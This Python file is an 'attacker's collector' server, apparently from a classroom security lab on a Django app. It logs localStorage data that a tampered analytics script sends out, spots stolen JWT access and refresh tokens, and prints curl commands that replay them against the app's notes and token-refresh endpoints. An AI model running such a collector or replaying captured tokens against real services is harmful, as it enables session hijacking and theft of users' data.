"""The attacker's collector: whatever the page's scripts send it, it prints.

Not part of the Django project. `make step-12` starts it beside the server
and points the page's analytics script at it (ANALYTICS_URL). Run it alone:

    python collector.py --port 8100

Each report arrives as one line of JSON. For a stolen access or refresh
token in it, the collector prints what an attacker would type next, from
any machine.
"""

import argparse
import json
import re
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

JWT = re.compile(r"eyJ[\w-]+\.[\w-]+\.[\w-]+")


class Collector(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"The attacker's collector: POST reports here.\n")

    def do_POST(self):
        length = min(int(self.headers.get("Content-Length") or 0), 64 * 1024)
        report = self.rfile.read(length).decode(errors="replace")
        self.report(report)
        self.send_response(204)  # after printing: whoever sent it can read it now
        self.end_headers()

    def report(self, report):
        print(f"[collector] received: {report}", flush=True)
        try:
            found = json.loads(report)
            page, stolen = found["page"], found["localStorage"]
            access, refresh = stolen.get("access", ""), stolen.get("refresh", "")
        except (ValueError, KeyError, TypeError, AttributeError):
            return  # not a report of the page's script
        if JWT.fullmatch(access):
            print(
                "[collector] the stolen access token reads the notes (minutes):\n"
                f"  curl -s {page}/api/notes/"
                f' -H "Authorization: Bearer {access}"',
                flush=True,
            )
        if JWT.fullmatch(refresh):
            print(
                "[collector] the stolen refresh token makes new ones (up to 30 days):\n"
                f"  curl -s -X POST {page}/api/token/refresh/"
                " -H 'Content-Type: application/json'"
                f""" -d '{{"refresh": "{refresh}"}}'""",
                flush=True,
            )

    def log_message(self, *args):
        pass  # the reports are the log


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=8100)
    parser.add_argument("--host", default="127.0.0.1")  # 0.0.0.0: a room's browsers
    args = parser.parse_args()
    print(f"[collector] listening on http://{args.host}:{args.port}/", flush=True)
    try:
        ThreadingHTTPServer((args.host, args.port), Collector).serve_forever()
    except KeyboardInterrupt:
        pass  # Ctrl-C: stop quietly
